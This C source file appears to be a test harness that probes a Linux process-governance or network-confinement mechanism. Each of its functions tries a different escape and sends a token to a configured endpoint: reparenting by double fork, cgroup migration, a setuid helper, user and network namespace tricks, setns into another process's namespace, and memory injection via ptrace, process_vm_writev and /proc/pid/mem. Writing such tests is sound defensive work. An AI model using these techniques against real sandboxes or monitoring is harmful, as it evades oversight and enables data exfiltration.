// Ways to stop being the process that is governed, or to act through one that isn't.
#include "attack.h"
#include <sched.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/uio.h>

static void dial(int fd)
{
    struct sockaddr_in to = v4("WIRE4", "PORT");
    connect_to(fd, &to, sizeof to);
    send_token(fd);
    sent();
}

// As cron, at and every daemon do: a grandchild of nobody's, in a session of its own.
ATTACK(reparented)
{
    int out[2];
    char line[128] = {0};
    must(pipe(out), "pipe");
    if (must(fork(), "fork") == 0) {
        setsid();
        if (must(fork(), "fork") == 0) {
            dup2(out[1], STDOUT_FILENO);
            close(out[0]);
            close(out[1]);
            // Until its parent is gone, for at most a second.
            for (int i = 0; i < 100 && getppid() == getsid(0); i++)
                poll(NULL, 0, 10);
            dial(tcp4());
        }
        _exit(0);
    }
    close(out[1]);
    wait(NULL);
    // Its words are this attack's.
    if (read(out[0], line, sizeof line - 1) <= 0)
        missing("a word from the grandchild");
    fputs(line, stdout);
    fflush(stdout);
    _exit(0);
}

ATTACK(executed)
{
    char *arguments[] = {"attacks", "tcp", NULL};
    execv("/proc/self/exe", arguments);
    stopped("exec");
}

static int procs = -1;

static void open_cgroup(void)
{
    char path[512];
    snprintf(path, sizeof path, "%s/cgroup.procs", setting("CGROUP"));
    procs = must(open(path, O_WRONLY), "open");
}

ATTACK_AFTER(other_cgroup, open_cgroup)
{
    must((int)write(procs, "0", 1), "cgroup.procs");
    dial(tcp4());
}

// SETUID is a copy of this program that belongs to an ungoverned account, with the setuid bit.
ATTACK(setuid_program)
{
    char *arguments[] = {"attacks", "tcp_as_other", NULL};
    execv(setting("SETUID"), arguments);
    stopped("exec");
}

ATTACK(tcp_as_other)
{
    if (geteuid() == (uid_t)number("UID"))
        missing("the setuid bit (is the directory on a file system mounted nosuid?)");
    must(setresuid(geteuid(), geteuid(), geteuid()), "setresuid");
    dial(tcp4());
}

ATTACK(user_namespace)
{
    must(unshare(CLONE_NEWUSER), "unshare");
    dial(tcp4());
}

// The socket stays in the namespace where it was made.
ATTACK(kept_socket)
{
    int fd = tcp4();
    must(unshare(CLONE_NEWUSER | CLONE_NEWNET), "unshare");
    dial(fd);
}

// In namespaces of one's own every capability is there; the way out is a socket of the namespace before.
ATTACK(kept_socket_udp)
{
    struct sockaddr_in to = v4("WIRE4", "PORT");
    int fd = udp4();
    must(unshare(CLONE_NEWUSER | CLONE_NEWNET | CLONE_NEWNS | CLONE_NEWPID), "unshare");
    send_token_to(fd, &to, sizeof to);
    sent();
}

static pid_t insider_pid;

// An ungoverned process that waits in a user namespace of its own.
static void insider(int ready)
{
    must(unshare(CLONE_NEWUSER), "unshare");
    prctl(PR_SET_DUMPABLE, 1, 0, 0, 0);
    must((int)write(ready, "", 1), "write");
    pause();
}

static void prepare_insider(void) { insider_pid = helper(insider); }

ATTACK_AFTER(joined_namespace, prepare_insider)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/ns/user", insider_pid);
    must(setns(must(open(path, O_RDONLY), "open"), CLONE_NEWUSER), "setns");
    dial(tcp4());
}

// An ungoverned process of the same user, which passes on whatever somebody writes into its memory.
static char *letter;
static pid_t victim_pid;

static void victim(int ready)
{
    prctl(PR_SET_PTRACER, PR_SET_PTRACER_ANY, 0, 0, 0);
    must((int)write(ready, "", 1), "write");
    while (!__atomic_load_n(&letter[63], __ATOMIC_ACQUIRE))
        poll(NULL, 0, 5);
    forward(letter, strlen(letter));
}

static void prepare_victim(void)
{
    letter = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (letter == MAP_FAILED)
        stopped("mmap");
    victim_pid = helper(victim);
}

// The letter ends with a byte that says that it is whole.
static void write_letter(char *out)
{
    memset(out, 0, 64);
    strcpy(out, token());
    out[63] = 1;
}

static void wait_for_victim(void)
{
    waitpid(victim_pid, NULL, 0);
    sent();
}

ATTACK_AFTER(ptrace, prepare_victim)
{
    union {
        char bytes[64];
        long words[64 / sizeof(long)];
    } text;
    write_letter(text.bytes);
    must((int)ptrace(PTRACE_ATTACH, victim_pid, 0, 0), "ptrace");
    must(waitpid(victim_pid, NULL, 0), "waitpid");
    for (size_t i = 0; i < 64 / sizeof(long); i++)
        must((int)ptrace(PTRACE_POKEDATA, victim_pid, letter + i * sizeof(long), text.words[i]), "poke");
    ptrace(PTRACE_DETACH, victim_pid, 0, 0);
    wait_for_victim();
}

ATTACK_AFTER(vm_writev, prepare_victim)
{
    char text[64];
    write_letter(text);
    struct iovec from = {text, 64}, to = {letter, 64};
    must((int)process_vm_writev(victim_pid, &from, 1, &to, 1, 0), "process_vm_writev");
    wait_for_victim();
}

ATTACK_AFTER(proc_mem, prepare_victim)
{
    char text[64], path[64];
    write_letter(text);
    snprintf(path, sizeof path, "/proc/%d/mem", victim_pid);
    int fd = must(open(path, O_WRONLY), "open");
    must((int)pwrite(fd, text, 64, (off_t)(uintptr_t)letter), "pwrite");
    wait_for_victim();
}
